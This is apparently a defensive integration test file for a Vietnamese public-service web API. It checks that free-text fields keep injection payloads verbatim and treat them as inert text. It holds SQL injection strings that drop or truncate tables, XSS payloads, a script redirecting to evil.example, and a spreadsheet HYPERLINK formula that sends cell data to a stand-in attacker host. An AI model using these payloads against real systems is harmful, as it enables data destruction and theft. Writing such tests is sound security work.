import ExcelJS from 'exceljs';
import type { FastifyInstance, InjectOptions } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { khaiSinh } from '@motcua/demo/procedures/khai-sinh.ts';
import { DEMO_ZALO_APP } from '../../src/demo/seed-demo.ts';
import { createOaTokenStore, ZALO_HOSTS } from '../../src/modules/channels/index.ts';
import { verifyAudit } from '../../src/modules/identity/index.ts';
import { pdfText } from '../../src/modules/receipts/pdf/poppler.ts';
import { masterKeyProvider } from '../../src/platform/crypto/key-provider.ts';
import { buildTestApp, testMasterKey } from '../app.ts';
import { startChatKit } from '../chatbot-kit.ts';
import { dossierIn } from '../factories/dossier.ts';
import { loginOfficer, testOfficer } from '../factories/officer.ts';
import { createTestDatabase, type TestDatabase } from '../harness.ts';
import { as, fileDossier, filingBody, seedProvinces, signInAll, uploadPhoto, type Province } from './kit.ts';

/**
 * SQL and script payloads, each different so a test can tell which field it came back from. None
 * may break a query, change another row, or come back as markup; each is stored and returned as text.
 */
const P = {
  name: `Lê Văn A'); DELETE FROM applications; --`,
  address: `1 Đường "><script>alert('address')</script>`,
  email: `x'or'1'='1@example.vn`,
  childName: `Bảo An <img src=x onerror=alert(1)>`,
  placeOfBirth: `Bệnh viện'; DROP TABLE audit_log; --`,
  street: `<svg/onload=alert('street')>`,
  refusal: `Không đủ điều kiện <b onmouseover=alert(1)>xem</b> ' OR 1=1 --`,
  supplementReason: `Ảnh mờ"; UPDATE officers SET active=false; --`,
  supplementItem: `Giấy chứng sinh <iframe src=javascript:alert(1)>`,
  supplementNote: `Đã chụp lại {{constructor.constructor('alert(1)')()}}`,
  feedback: 'Chậm quá ${7*7} <script>document.location="//evil.example"</script>',
  chatIn: `Cho hỏi hồ sơ '); DROP TABLE chat_messages; -- <script>alert(1)</script>`,
  chatOut: `Chào bạn <a href="javascript:alert(1)">bấm vào đây</a>`,
  broadcastTitle: `Thông báo <script>alert('title')</script>`,
  broadcastBody: `Nghỉ lễ'; TRUNCATE broadcasts; -- <img src=x onerror=alert(2)>`,
  procedureName: `Đăng ký khai sinh <script>alert('procedure')</script>`,
  unitName: `=HYPERLINK("http://evil.example/?"&A1,"Bấm") <script>x</script>`,
  officerName: `Nguyễn <svg onload=alert(3)> Văn'; --`,
  holiday: `Nghỉ bù <script>alert('holiday')</script>`,
} as const;

let db: TestDatabase;
let app: FastifyInstance;
let province: Province;

beforeAll(async () => {
  db = await createTestDatabase();
  const seeded = await seedProvinces(db);
  app = await buildTestApp(db);
  province = await signInAll(app, db, seeded);
});
afterAll(async () => {
  await app.close();
  await db.drop();
});

const T = '/api/v1/tay-ninh';

async function call(
  caller: 'own' | 'processor' | 'adminOnly',
  request: InjectOptions & { url: string },
  status: number,
) {
  const res = await as(app, province, caller, request);
  expect(res.statusCode, res.body.slice(0, 300)).toBe(status);
  const served = request.url.endsWith('.pdf') ? /^application\/pdf$/ : /^application\/(json|problem\+json)/;
  expect(res.headers['content-type']).toMatch(served);
  return res;
}

/** Every payload `json` should hold, found as exact string values (so never rewritten or escaped). */
function expectVerbatim(json: unknown, payloads: readonly string[]): void {
  const strings: string[] = [];
  const walk = (value: unknown): void => {
    if (typeof value === 'string') strings.push(value);
    else if (Array.isArray(value)) value.forEach(walk);
    else if (value && typeof value === 'object') Object.values(value).forEach(walk);
  };
  walk(json);
  for (const payload of payloads)
    expect(
      strings.some((s) => s.includes(payload)),
      payload,
    ).toBe(true);
}

/**
 * Whether a PDF's text (pdftotext's layout mode) shows `payload` as text: each of its words, in order
 * (a long text wraps inside its table cell, with the next column's words between the lines).
 */
async function printed(pdf: Buffer, payload: string): Promise<boolean> {
  const text = await pdfText(pdf, true);
  let at = 0;
  for (const word of payload.split(/\s+/)) {
    const found = text.indexOf(word, at);
    if (found === -1) return false;
    at = found + word.length;
  }
  return true;
}

async function tablesIntact(): Promise<void> {
  const rows = await db.database.pool.query<{ missing: string | null }>(
    `select t as missing from unnest(array['applications','audit_log','officers','chat_messages','broadcasts']) t
      where to_regclass('public.' || t) is null`,
  );
  expect(rows.rows).toEqual([]);
  expect((await verifyAudit(db.database, province.tenant.id)).ok).toBe(true);
}

describe('SQL and script payloads in free text', () => {
  it('files, refuses, asks for and receives a supplement with payloads, stored verbatim and printed as text', async () => {
    const before = await db.database.pool.query<{ n: number }>('select count(*)::int as n from applications');
    const body = filingBody((await uploadPhoto(app)).id, { fullName: P.name, address: P.address, email: P.email });
    const form = structuredClone(body['form']) as {
      child: Record<string, string>;
      applicant: { residence: { street: string } };
    };
    form.child['fullName'] = P.childName;
    form.child['placeOfBirth'] = P.placeOfBirth;
    form.applicant.residence.street = P.street;
    const filed = await app.inject({ method: 'POST', url: `${T}/applications`, payload: { ...body, form } });
    expect(filed.statusCode, filed.body.slice(0, 300)).toBe(201);
    const { code, lookupKey: key } = filed.json<{ code: string; lookupKey: string }>();
    const after = await db.database.pool.query<{ n: number }>('select count(*)::int as n from applications');
    expect(after.rows[0]?.n).toBe((before.rows[0]?.n ?? 0) + 1);

    const action = (caller: 'own' | 'processor', name: string, extra: Record<string, unknown> = {}) =>
      call(caller, { method: 'POST', url: `${T}/console/applications/${code}/actions/${name}`, payload: extra }, 200);
    await action('own', 'accept');
    await action('processor', 'start_processing');
    await action('processor', 'request_supplement', {
      reason: P.supplementReason,
      payload: { items: [P.supplementItem] },
    });
    const supplement = await app.inject({
      method: 'POST',
      url: `${T}/applications/${code}/supplements?key=${key}`,
      payload: {
        attachments: [{ documentKey: 'giay-chung-sinh', uploadId: (await uploadPhoto(app)).id }],
        note: P.supplementNote,
      },
    });
    expect(supplement.statusCode, supplement.body.slice(0, 300)).toBe(200);

    const detail = await call('own', { method: 'GET', url: `${T}/console/applications/${code}` }, 200);
    expectVerbatim(detail.json(), [P.name, P.address, P.email, P.childName, P.placeOfBirth, P.street]);
    expectVerbatim(detail.json(), [P.supplementReason, P.supplementItem, P.supplementNote]);

    const receipt = await app.inject({ method: 'GET', url: `${T}/applications/${code}/receipt.pdf?key=${key}` });
    expect(receipt.headers['content-type']).toBe('application/pdf');
    expect(await printed(receipt.rawPayload, P.name)).toBe(true);
    expect(await printed(receipt.rawPayload, P.address)).toBe(true);
    const request = await call(
      'processor',
      { method: 'GET', url: `${T}/console/applications/${code}/forms/supplement-request.pdf` },
      200,
    );
    expect(await printed(request.rawPayload, P.supplementItem)).toBe(true);
    expect(await printed(request.rawPayload, P.supplementReason)).toBe(true);

    const refused = await fileDossier(app, { fullName: P.name });
    await call(
      'own',
      {
        method: 'POST',
        url: `${T}/console/applications/${refused.code}/actions/refuse`,
        payload: { reason: P.refusal },
      },
      200,
    );
    const refusal = await call(
      'own',
      { method: 'GET', url: `${T}/console/applications/${refused.code}/forms/refusal.pdf` },
      200,
    );
    expect(await printed(refusal.rawPayload, P.refusal)).toBe(true);
    await tablesIntact();
  });

  it('keeps a rating’s reason verbatim', async () => {
    const returned = await dossierIn(db, province.tenant, 'returned', { at: new Date(), applicantName: P.name });
    const rated = await app.inject({
      method: 'POST',
      url: `${T}/applications/${returned.code}/feedback?key=${returned.key}`,
      payload: { rating: 'unsatisfied', reason: P.feedback },
    });
    expect(rated.statusCode, rated.body.slice(0, 300)).toBe(201);
    const list = await call('own', { method: 'GET', url: `${T}/console/feedback` }, 200);
    expectVerbatim(list.json(), [P.feedback]);
    await tablesIntact();
  });

  it('keeps chat text verbatim both ways', async () => {
    const kit = await startChatKit();
    try {
      await testOfficer(kit.db.database, kit.tenant.id, 'chat.inj', '000.20.01.H53', 'intake');
      const officer = await loginOfficer(kit.app, kit.tenant.slug, 'chat.inj');
      const headers = { cookie: officer.cookie, 'x-csrf-token': officer.csrf };
      const user = await kit.citizen('Người Thử');
      for (const text of ['Gặp cán bộ', P.chatIn]) {
        await kit.sim('POST', `/users/${user}/text`, { text });
        await kit.settle();
      }
      const list = await kit.app.inject({ method: 'GET', url: `${T}/console/chats`, headers });
      const threadId = list.json<{ items: { id: string }[] }>().items[0]?.id ?? '';
      const reply = await kit.app.inject({
        method: 'POST',
        url: `${T}/console/chats/${threadId}/messages`,
        headers,
        payload: { text: P.chatOut },
      });
      expect(reply.statusCode).toBe(201);
      await kit.settle();
      const view = await kit.app.inject({ method: 'GET', url: `${T}/console/chats/${threadId}`, headers });
      expect(view.headers['content-type']).toMatch(/^application\/json/);
      expectVerbatim(view.json(), [P.chatIn, P.chatOut]);
      // The citizen's Zalo got the officer's words as they were written.
      const received = await kit.conversation(user);
      expect(received.some((m) => m.from === 'oa' && m.text === P.chatOut)).toBe(true);
    } finally {
      await kit.close();
    }
  });

  it('keeps admin texts verbatim: broadcast, procedure name, unit, officer, holiday', async () => {
    const tokens = createOaTokenStore({
      database: db.database,
      keyProvider: masterKeyProvider(testMasterKey),
      hosts: () => ZALO_HOSTS,
      credentials: () => Promise.resolve({ appId: DEMO_ZALO_APP.appId, appSecret: DEMO_ZALO_APP.appSecret }),
      now: () => new Date(),
    });
    await tokens.store(province.tenant.id, { accessToken: 'a', refreshToken: 'r', expiresInSeconds: 3600 });
    const A = `${T}/console/admin`;
    const broadcast = await call(
      'adminOnly',
      {
        method: 'POST',
        url: `${A}/broadcasts`,
        payload: { title: P.broadcastTitle, kind: 'text', body: P.broadcastBody, target: { all: true } },
      },
      201,
    );
    for (const url of ['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'http://evil.example/x']) {
      await call(
        'adminOnly',
        {
          method: 'POST',
          url: `${A}/broadcasts`,
          payload: { title: 'Liên kết', kind: 'link', body: 'Xem', media: { url }, target: { all: true } },
        },
        422,
      );
    }
    const shown = await call(
      'adminOnly',
      { method: 'GET', url: `${A}/broadcasts/${broadcast.json<{ id: string }>().id}` },
      200,
    );
    expectVerbatim(shown.json(), [P.broadcastTitle, P.broadcastBody]);

    await call(
      'adminOnly',
      {
        method: 'POST',
        url: `${A}/procedures/${khaiSinh.code}/versions`,
        payload: { ...khaiSinh, name: P.procedureName },
      },
      201,
    );
    const procedure = await app.inject({ method: 'GET', url: `${T}/procedures/${khaiSinh.code}` });
    expectVerbatim(procedure.json(), [P.procedureName]);

    await call(
      'adminOnly',
      {
        method: 'POST',
        url: `${A}/units`,
        payload: { eid: '000.20.77.H53', kind: 'commune', name: P.unitName, address: P.address },
      },
      201,
    );
    const units = await call('adminOnly', { method: 'GET', url: `${A}/units` }, 200);
    expectVerbatim(units.json(), [P.unitName, P.address]);
    const unitId = province.unitIds['000.20.01.H53'] ?? '';
    await call(
      'adminOnly',
      {
        method: 'POST',
        url: `${A}/officers`,
        payload: {
          username: 'inj.officer',
          fullName: P.officerName,
          password: 'Mật-khẩu-đủ-dài-2026',
          roles: [{ role: 'intake', unitId }],
        },
      },
      201,
    );
    expectVerbatim((await call('adminOnly', { method: 'GET', url: `${A}/officers?q=inj` }, 200)).json(), [
      P.officerName,
    ]);
    await call(
      'adminOnly',
      { method: 'PUT', url: `${A}/calendar/2026-12-31`, payload: { kind: 'holiday', name: P.holiday } },
      200,
    );
    expectVerbatim((await call('adminOnly', { method: 'GET', url: `${A}/calendar?year=2026` }, 200)).json(), [
      P.holiday,
    ]);
    await tablesIntact();
  });

  it('writes names into the Excel export as text, never as formulas', async () => {
    const res = await as(app, province, 'adminOnly', { method: 'GET', url: `${T}/console/stats.xlsx` });
    expect(res.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const formulas: string[] = [];
    const texts: string[] = [];
    workbook.eachSheet((sheet) => {
      sheet.eachRow((row) => {
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula) formulas.push(cell.address);
          if (typeof cell.value === 'string') texts.push(cell.value);
        });
      });
    });
    expect(formulas).toEqual([]);
    expect(texts).toContain(P.unitName);
  });
});
